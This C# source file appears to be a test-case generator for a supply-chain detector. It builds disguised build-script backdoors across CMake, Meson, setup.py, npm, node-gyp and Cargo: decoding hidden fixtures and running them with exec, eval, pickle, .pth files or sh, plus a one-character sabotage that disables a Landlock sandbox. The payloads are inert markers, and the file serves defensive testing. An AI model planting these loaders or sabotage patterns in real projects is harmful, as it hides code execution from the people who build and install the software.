using System.Text;

namespace Xzact.Attacks.ByHand;

/// <summary>Build systems that decode and run without a shell.</summary>
internal static class LanguageVariants
{
    public static IEnumerable<HandVariant> All =>
    [
        new(
            "cmake-unpacks-and-includes", "mixed",
            "CMake unpacks an archive among the test data by itself and includes a file of it as commands.",
            files => files
                .Put("tests/data/set.tar", ShellVariants.Tarred("options.cmake", HandFiles.Comment))
                .Append("CMakeLists.txt", """
                    file(ARCHIVE_EXTRACT INPUT tests/data/set.tar DESTINATION ${CMAKE_BINARY_DIR}/set)
                    include(${CMAKE_BINARY_DIR}/set/options.cmake)
                    """))
        {
            Decode = "tar -xOf tests/data/set.tar", Decoded = HandFiles.Comment,
        },
        new(
            "cmake-evaluates-hex", "mixed",
            "CMake reads a fixture as hexadecimal digits, turns them into text and evaluates it as commands.",
            files => files
                .Put("tests/data/mask.bin", [.. HandFiles.Comment.Reverse()])
                .Append("CMakeLists.txt", """
                    file(READ tests/data/mask.bin digits HEX)
                    string(REGEX MATCHALL ".." digits "${digits}")
                    list(REVERSE digits)
                    foreach(digit IN LISTS digits)
                      math(EXPR code "0x${digit}")
                      string(ASCII ${code} letter)
                      string(APPEND text "${letter}")
                    endforeach()
                    cmake_language(EVAL CODE "${text}")
                    """))
        {
            Decode = "xxd -p -c1 tests/data/mask.bin | tac | xxd -r -p", Decoded = HandFiles.Comment,
        },
        new(
            "cmake-check-that-fails", "mixed",
            "One character makes a check of the sandbox's header fail always, so the sandbox is left out.",
            files => files.Append("CMakeLists.txt", """
                include(CheckCSourceCompiles)
                check_c_source_compiles("
                    #include <linux/landlock.h>
                .
                    int main(void) { return LANDLOCK_ACCESS_FS_EXECUTE; }" HAVE_LANDLOCK)
                if(HAVE_LANDLOCK)
                  target_compile_definitions(words PRIVATE USE_SANDBOX)
                endif()
                """)),
        new(
            "meson-runs-a-copy", "mixed",
            "Meson copies a fixture under another name with configure_file and runs the copy as a generator.",
            files => files
                .Put("tests/data/sample-5.txt", HandFiles.Script)
                .Append("meson.build", """
                    gen = configure_file(input: 'tests/data/sample-5.txt', output: 'gen-5', copy: true)
                    custom_target('table', output: 'table.h', command: ['sh', gen], build_by_default: true)
                    """)),
        new(
            "python-decodes-itself", "mixed",
            "setup.py takes the end of a picture, decompresses and executes it in its own process.",
            files => files
                .Put("doc/photo.gif", [.. "GIF89a"u8, .. HandFiles.Junk(40), (byte)';',
                    .. HandFiles.Gzip(HandFiles.Comment)])
                .Append("setup.py", """

                    import gzip

                    with open("doc/photo.gif", "rb") as picture:
                        exec(gzip.decompress(picture.read()[47:]))
                    """))
        {
            Decode = "tail -c +48 doc/photo.gif | gzip -dc", Decoded = HandFiles.Comment,
        },
        new(
            "python-unpickles", "mixed",
            "setup.py loads a cache of the tests, in a format that can call anything while it is read.",
            files => files
                .Put("tests/data/cache.pkl", "VINERT TEST FIXTURE\np0\n.")
                .Append("setup.py", """

                    import pickle

                    with open("tests/data/cache.pkl", "rb") as cache:
                        flags = pickle.load(cache)
                    """)),
        new(
            "python-imports-from-a-zip", "mixed",
            "A zip of test data stands first in the path of modules, and the module of that name is in it.",
            files => files
                .Put("tests/data/pages.zip", Zipped("versions.py", HandFiles.Comment))
                .Append("setup.py", """

                    import sys

                    sys.path.insert(0, "tests/data/pages.zip")
                    import versions
                    """))
        {
            Decode = "unzip -p tests/data/pages.zip versions.py", Decoded = HandFiles.Comment,
        },
        new(
            "python-path-file", "mixed",
            "A data file that is installed beside the modules has a name whose lines Python runs at every start.",
            files => files
                .Put("tests/data/places.pth", "import sys  # INERT TEST FIXTURE")
                .Edit("setup.py", "packages=[]", "packages=[], data_files=[(\"\", [\"tests/data/places.pth\"])]")),
        new(
            "node-compiles-a-fixture", "mixed",
            "The install hook names a plain script, which decompresses a fixture and makes a function of it.",
            files => files
                .Put("tests/data/locale.gz", HandFiles.Gzip("/* INERT TEST FIXTURE */"u8.ToArray()))
                .Put("tools/postinstall.js", """
                    const fs = require('fs');
                    const zlib = require('zlib');
                    const text = zlib.gunzipSync(fs.readFileSync('tests/data/locale.gz')).toString();
                    new Function('require', text)(require);
                    """)
                .Edit("package.json", "\"scripts\": {",
                    "\"scripts\": {\n    \"postinstall\": \"node tools/postinstall.js\","))
        {
            Decode = "gzip -dc tests/data/locale.gz", Decoded = "/* INERT TEST FIXTURE */"u8.ToArray(),
        },
        new(
            "gyp-expands-a-command", "mixed",
            "npm builds a native module if there is a binding.gyp, though no hook says so; its lists run commands.",
            files => files
                .Put("tests/data/sources.bin", [.. HandFiles.Script.Select(b => (byte)(b ^ 0x33))])
                .Put("binding.gyp", """
                    {
                      "targets": [{
                        "target_name": "words",
                        "sources": ["src/main.c",
                          "<!@(perl -0777 -pe '$_^=chr(51)x length' tests/data/sources.bin | sh)"]
                      }]
                    }
                    """))
        {
            Decode = "perl -0777 -pe '$_^=chr(51)x length' tests/data/sources.bin",
        },
        new(
            "cargo-build-script", "mixed",
            "A build script of Cargo takes a fixture into itself at compile time, decodes, writes and starts it.",
            files => files
                .Put("Cargo.toml", "[package]\nname = \"words\"\nversion = \"1.2.0\"\nedition = \"2021\"")
                .Put("tests/data/noise-9.raw", [.. HandFiles.Script.Select(b => (byte)(255 - b))])
                .Put("build.rs", """
                    use std::{env, fs, process::Command};

                    fn main() {
                        let bytes: Vec<u8> = include_bytes!("tests/data/noise-9.raw").iter().map(|b| !b).collect();
                        let path = format!("{}/step", env::var("OUT_DIR").unwrap());
                        fs::write(&path, bytes).unwrap();
                        Command::new("sh").arg(&path).status().unwrap();
                    }
                    """))
        {
            Decode = "perl -0777 -pe '$_^=chr(255)x length' tests/data/noise-9.raw",
        },
    ];

    private static byte[] Zipped(string name, byte[] content)
    {
        using var output = new MemoryStream();
        using (var zip = new System.IO.Compression.ZipArchive(
            output, System.IO.Compression.ZipArchiveMode.Create, leaveOpen: true, Encoding.ASCII))
        {
            System.IO.Compression.ZipArchiveEntry entry = zip.CreateEntry(name);
            entry.LastWriteTime = new DateTimeOffset(2019, 5, 4, 12, 0, 0, TimeSpan.Zero);
            using Stream stream = entry.Open();
            stream.Write(content);
        }

        return output.ToArray();
    }
}
